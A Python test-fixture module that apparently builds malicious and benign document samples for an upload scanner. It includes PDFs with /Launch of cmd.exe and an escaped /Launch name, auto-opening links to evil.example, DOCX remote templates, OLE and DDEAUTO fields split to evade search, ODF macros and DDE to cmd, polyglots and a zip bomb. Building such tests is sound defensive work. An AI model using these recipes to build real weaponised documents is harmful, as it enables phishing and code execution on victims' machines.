"""Small hand-built files with active content (and harmless look-alikes) for the upload tests."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from openpyxl import Workbook
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from wbk.formats.simple_docs import simple_png

EVIL = "https://evil.example/track?id=1"
OOXML_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[], bytes]
    filename: str
    key: str | None = None  # None: the file must pass


# --- PDF ------------------------------------------------------------------------------------


def _name(text: str) -> NameObject:
    return NameObject(text)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name("/" + key)] = value
    return action


def _pdf(edit: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if edit is not None:
        edit(writer)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _rect() -> ArrayObject:
    return ArrayObject([NumberObject(10), NumberObject(10), NumberObject(100), NumberObject(30)])


def _annotation(subtype: str, **entries) -> DictionaryObject:
    annot = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name(subtype),
            _name("/Rect"): _rect(),
        }
    )
    for key, value in entries.items():
        annot[_name("/" + key)] = value
    return annot


def _link_action(action: DictionaryObject) -> Callable[[PdfWriter], None]:
    return lambda w: w.add_annotation(0, _annotation("/Link", A=action))


def _open_action(action) -> Callable[[PdfWriter], None]:
    def edit(w: PdfWriter) -> None:
        w._root_object[_name("/OpenAction")] = w._add_object(action)

    return edit


def _fit(w: PdfWriter) -> ArrayObject:
    return ArrayObject([w.pages[0].indirect_reference, _name("/Fit")])


def pdf_plain() -> bytes:
    return _pdf()


def pdf_web_link(url: str = "https://jdih.kemenag.go.id/sk-tim-zi-2026") -> Callable[[], bytes]:
    return lambda: _pdf(lambda w: w.add_annotation(0, Link(rect=(10, 10, 100, 30), url=url)))


def pdf_open_at_page() -> bytes:
    """The most common /OpenAction in real files: open at page one, fit to window."""
    return _pdf(lambda w: _open_action(_fit(w))(w))


def pdf_launch() -> bytes:
    return _pdf(_open_action(_action("/Launch", F=TextStringObject("cmd.exe"))))


def pdf_launch_escaped_name() -> bytes:
    """/Launch spelled with a #xx escape: invisible to a byte search, same name to a reader."""
    data = _pdf(_link_action(_action("/Launch", F=TextStringObject("calc.exe"))))
    return data.replace(b"/S /Launch", b"/S /L#61unch")


def pdf_attachment() -> bytes:
    return _pdf(lambda w: w.add_attachment("lampiran.exe", b"MZ\x90\x00"))


def pdf_file_attachment_annotation() -> bytes:
    def edit(w: PdfWriter) -> None:
        payload = DecodedStreamObject()
        payload.set_data(b"MZ\x90\x00")
        payload[_name("/Type")] = _name("/EmbeddedFile")
        spec = DictionaryObject(
            {
                _name("/Type"): _name("/Filespec"),
                _name("/F"): TextStringObject("data.exe"),
                _name("/EF"): DictionaryObject({_name("/F"): w._add_object(payload)}),
            }
        )
        w.add_annotation(0, _annotation("/FileAttachment", FS=w._add_object(spec)))

    return _pdf(edit)


def pdf_uri_on_open() -> bytes:
    return _pdf(_open_action(_action("/URI", URI=TextStringObject(EVIL))))


def pdf_uri_on_page_open() -> bytes:
    def edit(w: PdfWriter) -> None:
        page = w.pages[0]
        page[_name("/AA")] = DictionaryObject(
            {_name("/O"): _action("/URI", URI=TextStringObject(EVIL))}
        )

    return _pdf(edit)


def pdf_uri_after_goto() -> bytes:
    """An innocent first action whose /Next opens an address."""

    def edit(w: PdfWriter) -> None:
        first = _action("/GoTo", D=_fit(w), Next=_action("/URI", URI=TextStringObject(EVIL)))
        _open_action(first)(w)

    return _pdf(edit)


def pdf_submit_form() -> bytes:
    def edit(w: PdfWriter) -> None:
        target = DictionaryObject(
            {_name("/FS"): _name("/URL"), _name("/F"): TextStringObject(EVIL)}
        )
        widget = _annotation(
            "/Widget",
            FT=_name("/Btn"),
            T=TextStringObject("kirim"),
            A=_action("/SubmitForm", F=target),
        )
        ref = w._add_object(widget)
        w.pages[0][_name("/Annots")] = ArrayObject([ref])
        w._root_object[_name("/AcroForm")] = DictionaryObject(
            {_name("/Fields"): ArrayObject([ref])}
        )

    return _pdf(edit)


def pdf_import_data() -> bytes:
    return _pdf(_link_action(_action("/ImportData", F=TextStringObject("data.fdf"))))


def pdf_goto_remote() -> bytes:
    def edit(w: PdfWriter) -> None:
        dest = ArrayObject([NumberObject(0), _name("/Fit")])
        action = _action("/GoToR", F=TextStringObject("\\\\evil.example\\share\\sk.pdf"), D=dest)
        _link_action(action)(w)

    return _pdf(edit)


def pdf_goto_embedded() -> bytes:
    def edit(w: PdfWriter) -> None:
        target = DictionaryObject({_name("/R"): _name("/C"), _name("/N"): TextStringObject("x")})
        dest = ArrayObject([NumberObject(0), _name("/Fit")])
        _link_action(_action("/GoToE", D=dest, T=target))(w)

    return _pdf(edit)


def pdf_xfa() -> bytes:
    def edit(w: PdfWriter) -> None:
        xfa = DecodedStreamObject()
        xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        w._root_object[_name("/AcroForm")] = DictionaryObject(
            {_name("/Fields"): ArrayObject(), _name("/XFA"): w._add_object(xfa)}
        )

    return _pdf(edit)


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def pdf_with_zip_appended() -> bytes:
    """A valid PDF that unzip also opens: the archive sits after %%EOF."""
    return pdf_plain() + _zip({"payload.exe": b"MZ" + b"\x00" * 64})


def pdf_with_zip_entry_inside() -> bytes:
    """Only a zip local file header and its data after the PDF (no central directory)."""
    archive = _zip({"payload.js": b"WScript.Shell" * 4}, zipfile.ZIP_STORED)
    cut = archive.index(b"PK\x01\x02")
    return pdf_plain() + archive[:cut]


# --- images ---------------------------------------------------------------------------------


def png_plain() -> bytes:
    return simple_png(8, 8)


def png_with_zip_appended() -> bytes:
    return simple_png(8, 8) + _zip({"run.vbs": b'CreateObject("WScript.Shell")'})


def jpeg_with_pdf_header() -> bytes:
    comment = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n"
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    jfif = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + jfif + segment + b"\x00" * 64 + b"\xff\xd9"


# --- Office Open XML ------------------------------------------------------------------------


def _rezip(data: bytes, add: dict[str, bytes], first: dict[str, bytes] | None = None) -> bytes:
    """Copy a package, replacing or adding members (``first`` ones before everything else)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(buf, "w") as dst:
        for name, payload in (first or {}).items():
            dst.writestr(name, payload, zipfile.ZIP_STORED)
        for info in src.infolist():
            if info.filename not in add:
                dst.writestr(info, src.read(info.filename), zipfile.ZIP_DEFLATED)
        for name, payload in add.items():
            dst.writestr(name, payload, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def _read(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


def _add_relationship(data: bytes, rels_part: str, rel: str) -> bytes:
    try:
        xml = _read(data, rels_part).decode("utf-8")
    except KeyError:
        xml = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}"/>'
    if xml.rstrip().endswith("/>") and "</Relationships>" not in xml:
        xml = xml.rstrip()[:-2] + "></Relationships>"
    xml = xml.replace("</Relationships>", rel + "</Relationships>")
    return _rezip(data, {rels_part: xml.encode("utf-8")})


def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{OOXML_REL}/{kind}" Target="{target}"{mode}/>'


def docx_plain() -> bytes:
    doc = Document()
    doc.add_paragraph("SK Tim Kerja Zona Integritas Kankemenag Kota Semarang 2026")
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def docx_with_web_link() -> bytes:
    """A clickable https link in the text, as Word writes it (External hyperlink relationship)."""
    doc = Document()
    paragraph = doc.add_paragraph("Salinan SK tersedia di ")
    rid = doc.part.relate_to("https://jdih.kemenag.go.id/", RT.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rid)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "JDIH Kemenag"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def docx_with_embedded_workbook() -> bytes:
    """A table pasted from Excel as an object: an embedded .xlsx package, not OLE."""
    data = _rezip(docx_plain(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_plain()})
    return _add_relationship(
        data,
        "word/_rels/document.xml.rels",
        _rel("rIdPkg", "package", "embeddings/Microsoft_Excel_Worksheet.xlsx", external=False),
    )


def xlsx_plain() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(["Triwulan", "IKM"])
    ws.append(["I", 86.5])
    ws.append(["II", 88.1])
    ws["C1"] = "Rata-rata"
    ws["C2"] = "=AVERAGE(B2:B3)"
    ws["D1"] = "Sumber"
    ws["D2"] = "https://kemenag.go.id"
    ws["D2"].hyperlink = "https://kemenag.go.id"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def pptx_minimal() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "ppt/presentation.xml": b"<p:presentation xmlns:p='urn:p'/>",
        }
    )


def docx_macros() -> bytes:
    return _rezip(docx_plain(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def xlsx_macros() -> bytes:
    return _rezip(xlsx_plain(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def pptx_macros() -> bytes:
    return _rezip(pptx_minimal(), {"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def docx_macro_content_type() -> bytes:
    data = docx_plain()
    types = _read(data, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return _rezip(data, {"[Content_Types].xml": types})


def xlsx_macro_sheet() -> bytes:
    """An Excel 4.0 (XLM) macro sheet: macros without any VBA project."""
    return _rezip(xlsx_plain(), {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='urn:x'/>"})


def pptx_run_program() -> bytes:
    """A slide whose shape runs a program when clicked (PowerPoint's action setting)."""
    slide = (
        b"<p:sld xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main'"
        b" xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main'"
        b" xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'>"
        b"<p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id='2' name='Tombol'>"
        b"<a:hlinkClick r:id='rId9' action='ppaction://program'/>"
        b"</p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"
    )
    return _rezip(pptx_minimal(), {"ppt/slides/slide1.xml": slide})


def docx_activex() -> bytes:
    return _rezip(docx_plain(), {"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='urn:ax'/>"})


def xlsx_external_link() -> bytes:
    part = b"<externalLink xmlns='urn:x'><externalBook/></externalLink>"
    return _rezip(xlsx_plain(), {"xl/externalLinks/externalLink1.xml": part})


def docx_remote_template() -> bytes:
    return _add_relationship(
        docx_plain(),
        "word/_rels/settings.xml.rels",
        _rel("rIdT", "attachedTemplate", "https://evil.example/template.dotm"),
    )


def docx_remote_ole_object() -> bytes:
    return _add_relationship(
        docx_plain(),
        "word/_rels/document.xml.rels",
        _rel("rIdO", "oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example"),
    )


def docx_remote_frame() -> bytes:
    return _add_relationship(
        docx_plain(),
        "word/_rels/webSettings.xml.rels",
        _rel("rIdF", "frame", "\\\\evil.example\\share\\frame.docx"),
    )


def docx_remote_picture() -> bytes:
    return _add_relationship(
        docx_plain(), "word/_rels/document.xml.rels", _rel("rIdI", "image", EVIL)
    )


def docx_file_link() -> bytes:
    return _add_relationship(
        docx_plain(),
        "word/_rels/document.xml.rels",
        _rel("rIdH", "hyperlink", "file:///C:/Windows/System32/calc.exe"),
    )


def docx_ole_embedding() -> bytes:
    return _rezip(docx_plain(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0ole"})


def docx_dde_field() -> bytes:
    """DDEAUTO split over two runs, as attackers write it to dodge a plain text search."""
    data = docx_plain()
    xml = _read(data, "word/document.xml").decode("utf-8")
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    xml = xml.replace("<w:body>", "<w:body>" + field, 1)
    return _rezip(data, {"word/document.xml": xml.encode("utf-8")})


def docx_pdf_polyglot() -> bytes:
    return _rezip(docx_plain(), {}, first={"%PDF-1.7 readme.txt": b"%PDF-1.7\n"})


# --- OpenDocument ---------------------------------------------------------------------------

ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def _manifest(media: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        ' manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="Configurations2/"'
        ' manifest:media-type="application/vnd.sun.xml.ui.configuration"/>'
        f"{extra}</manifest:manifest>"
    ).encode()


def _content(body: str = "<text:p>Notulen rapat Tim ZI</text:p>", head: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}>'
        f"<office:scripts/>{head}<office:body><office:text>{body}</office:text></office:body>"
        "</office:document-content>"
    ).encode()


def odf(
    media: str = ODT,
    content: bytes | None = None,
    manifest_extra: str = "",
    extra: dict[str, bytes] | None = None,
) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("mimetype", media.encode(), zipfile.ZIP_STORED)
        zf.writestr("META-INF/manifest.xml", _manifest(media, manifest_extra), zipfile.ZIP_DEFLATED)
        zf.writestr("content.xml", content or _content(), zipfile.ZIP_DEFLATED)
        for name, payload in (extra or {}).items():
            zf.writestr(name, payload, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def odt_plain() -> bytes:
    return odf()


def odt_with_web_link() -> bytes:
    link = '<text:p><text:a xlink:href="https://jdih.kemenag.go.id/">JDIH</text:a></text:p>'
    return odf(content=_content(link))


def ods_with_chart() -> bytes:
    chart = (
        '<manifest:file-entry manifest:full-path="Object 1/"'
        ' manifest:media-type="application/vnd.oasis.opendocument.chart"/>'
    )
    body = '<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>'
    return odf(
        ODS,
        content=_content(body),
        manifest_extra=chart,
        extra={"Object 1/content.xml": _content(), "ObjectReplacements/Object 1": b"\x01\x00"},
    )


def odt_basic_macro() -> bytes:
    return odf(extra={"Basic/Standard/Module1.xml": b"<script:module/>"})


def ods_python_script() -> bytes:
    return odf(ODS, extra={"Scripts/python/run.py": b"import os; os.system('calc')"})


def odt_event_listener() -> bytes:
    head = (
        "<office:event-listeners>"
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load"'
        ' xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;'
        'location=application"/></office:event-listeners>'
    )
    return odf(content=_content(head=head))


def odt_macro_link() -> bytes:
    href = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
    return odf(content=_content(f'<text:p><text:a xlink:href="{href}">klik</text:a></text:p>'))


def odt_ole_object() -> bytes:
    body = '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>'
    return odf(content=_content(body), extra={"Object 1": b"\xd0\xcf\x11\xe0ole"})


def odt_embedded_document() -> bytes:
    inner = f'<manifest:file-entry manifest:full-path="Object 1/" manifest:media-type="{ODT}"/>'
    return odf(manifest_extra=inner, extra={"Object 1/content.xml": _content()})


def odt_dde_link() -> bytes:
    head = (
        "<text:dde-connection-decls><text:dde-connection-decl"
        ' office:name="x" office:dde-application="cmd" office:dde-topic="/c calc"'
        ' office:dde-item="A1"/></text:dde-connection-decls>'
    )
    return odf(content=_content(head=head))


def odt_remote_section() -> bytes:
    body = (
        '<text:section text:name="s"><text:section-source xlink:href="https://evil.example/x.odt"'
        ' xlink:type="simple"/></text:section>'
    )
    return odf(content=_content(body))


def odt_password_protected() -> bytes:
    encrypted = (
        '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AA==">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB"'
        ' manifest:initialisation-vector="AA=="/>'
        "</manifest:encryption-data></manifest:file-entry>"
    )
    return odf(manifest_extra=encrypted)


def odt_encrypted_mimetype() -> bytes:
    """The mimetype entry flagged as zip-encrypted (general purpose bit 0)."""
    data = bytearray(odt_plain())
    local = data.index(b"PK\x03\x04")
    central = data.index(b"PK\x01\x02")
    data[local + 6] |= 0x01
    data[central + 8] |= 0x01
    return bytes(data)


def odt_corrupt_mimetype() -> bytes:
    """The mimetype entry deflated, then its compressed bytes damaged (zlib refuses them)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("mimetype", ODT.encode() * 3, zipfile.ZIP_DEFLATED)
        zf.writestr("content.xml", _content(), zipfile.ZIP_DEFLATED)
    data = bytearray(buf.getvalue())
    start = data.index(b"mimetype") + len(b"mimetype")
    data[start : start + 6] = b"\xff" * 6
    return bytes(data)


# --- the catalogue the tests run through ----------------------------------------------------

HOSTILE: list[Case] = [
    Case("pdf-launch", pdf_launch, "sk.pdf", "upload.pdf_launch"),
    Case("pdf-launch-escaped", pdf_launch_escaped_name, "sk.pdf", "upload.pdf_launch"),
    Case("pdf-embedded-files", pdf_attachment, "sk.pdf", "upload.pdf_embedded"),
    Case("pdf-file-attachment", pdf_file_attachment_annotation, "sk.pdf", "upload.pdf_embedded"),
    Case("pdf-uri-openaction", pdf_uri_on_open, "sk.pdf", "upload.pdf_auto_uri"),
    Case("pdf-uri-page-aa", pdf_uri_on_page_open, "sk.pdf", "upload.pdf_auto_uri"),
    Case("pdf-uri-next", pdf_uri_after_goto, "sk.pdf", "upload.pdf_auto_uri"),
    Case("pdf-submitform", pdf_submit_form, "sk.pdf", "upload.pdf_submit_form"),
    Case("pdf-importdata", pdf_import_data, "sk.pdf", "upload.pdf_import_data"),
    Case("pdf-gotor", pdf_goto_remote, "sk.pdf", "upload.pdf_remote_document"),
    Case("pdf-gotoe", pdf_goto_embedded, "sk.pdf", "upload.pdf_remote_document"),
    Case("pdf-xfa", pdf_xfa, "sk.pdf", "upload.pdf_xfa"),
    Case(
        "pdf-link-file", pdf_web_link("file:///C:/Windows/calc.exe"), "sk.pdf", "upload.link_scheme"
    ),
    Case("pdf-link-js", pdf_web_link("javascript:app.alert(1)"), "sk.pdf", "upload.link_scheme"),
    Case("pdf-zip-polyglot", pdf_with_zip_appended, "sk.pdf", "upload.polyglot"),
    Case("pdf-zip-entry-inside", pdf_with_zip_entry_inside, "sk.pdf", "upload.polyglot"),
    Case("png-zip-polyglot", png_with_zip_appended, "foto.png", "upload.polyglot"),
    Case("jpeg-pdf-polyglot", jpeg_with_pdf_header, "foto.jpg", "upload.polyglot"),
    Case("docx-macros", docx_macros, "sk.docx", "upload.office_macros"),
    Case("docx-macro-type", docx_macro_content_type, "sk.docx", "upload.office_macros"),
    Case("xlsx-macros", xlsx_macros, "rekap.xlsx", "upload.office_macros"),
    Case("pptx-macros", pptx_macros, "paparan.pptx", "upload.office_macros"),
    Case("xlsx-xlm-macro-sheet", xlsx_macro_sheet, "rekap.xlsx", "upload.office_macros"),
    Case("pptx-run-program", pptx_run_program, "paparan.pptx", "upload.office_program"),
    Case("docx-activex", docx_activex, "sk.docx", "upload.office_activex"),
    Case("xlsx-external-link", xlsx_external_link, "rekap.xlsx", "upload.office_external_links"),
    Case("docx-template", docx_remote_template, "sk.docx", "upload.office_external_target"),
    Case("docx-remote-ole", docx_remote_ole_object, "sk.docx", "upload.office_external_target"),
    Case("docx-frame", docx_remote_frame, "sk.docx", "upload.office_external_target"),
    Case("docx-remote-picture", docx_remote_picture, "sk.docx", "upload.office_external_target"),
    Case("docx-file-link", docx_file_link, "sk.docx", "upload.link_scheme"),
    Case("docx-ole", docx_ole_embedding, "sk.docx", "upload.office_ole"),
    Case("docx-dde", docx_dde_field, "sk.docx", "upload.office_dde"),
    Case("docx-pdf-polyglot", docx_pdf_polyglot, "sk.docx", "upload.polyglot"),
    Case("odt-basic", odt_basic_macro, "notulen.odt", "upload.office_macros"),
    Case("ods-scripts", ods_python_script, "rekap.ods", "upload.office_macros"),
    Case("odt-event", odt_event_listener, "notulen.odt", "upload.office_macros"),
    Case("odt-macro-link", odt_macro_link, "notulen.odt", "upload.office_macros"),
    Case("odt-ole", odt_ole_object, "notulen.odt", "upload.office_ole"),
    Case("odt-embedded", odt_embedded_document, "notulen.odt", "upload.odf_embedded"),
    Case("odt-dde", odt_dde_link, "notulen.odt", "upload.office_dde"),
    Case("odt-remote-section", odt_remote_section, "notulen.odt", "upload.office_external_target"),
    Case("odt-password", odt_password_protected, "notulen.odt", "upload.odf_encrypted"),
    Case("odt-mimetype-encrypted", odt_encrypted_mimetype, "notulen.odt", "upload.odf_mimetype"),
    Case("odt-mimetype-corrupt", odt_corrupt_mimetype, "notulen.odt", "upload.odf_mimetype"),
]

BENIGN: list[Case] = [
    Case("pdf-plain", pdf_plain, "sk.pdf"),
    Case("pdf-web-link", pdf_web_link(), "sk.pdf"),
    Case("pdf-link-no-scheme", pdf_web_link("www.kemenag.go.id"), "sk.pdf"),
    Case("pdf-mailto", pdf_web_link("mailto:zi@kemenag.go.id"), "sk.pdf"),
    Case("pdf-open-at-page", pdf_open_at_page, "sk.pdf"),
    Case("png", png_plain, "foto.png"),
    Case("docx", docx_plain, "sk.docx"),
    Case("docx-web-link", docx_with_web_link, "sk.docx"),
    Case("docx-embedded-xlsx", docx_with_embedded_workbook, "sk.docx"),
    Case("xlsx", xlsx_plain, "rekap.xlsx"),
    Case("pptx", pptx_minimal, "paparan.pptx"),
    Case("odt", odt_plain, "notulen.odt"),
    Case("odt-web-link", odt_with_web_link, "notulen.odt"),
    Case("ods-chart", ods_with_chart, "rekap.ods"),
]


# --- workbooks ------------------------------------------------------------------------------

SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def xlsx_bomb(unpacked_mib: int = 64) -> bytes:
    """A valid workbook whose first sheet is ``unpacked_mib`` MiB of rows of 1,000 equal
    answers: deflate packs it about 480 times (the reported file was 1.1 MB growing to
    292 MB, 265 times)."""
    row = b"<row>" + b"<c><v>4</v></c>" * 1000 + b"</row>"
    chunk = row * (1024 * 1024 // len(row))
    buf = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_plain())) as src,
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info.filename, src.read(info.filename))
        with dst.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(SHEET_HEAD)
            for _ in range(unpacked_mib):
                sheet.write(chunk)
            sheet.write(SHEET_TAIL)
    return buf.getvalue()
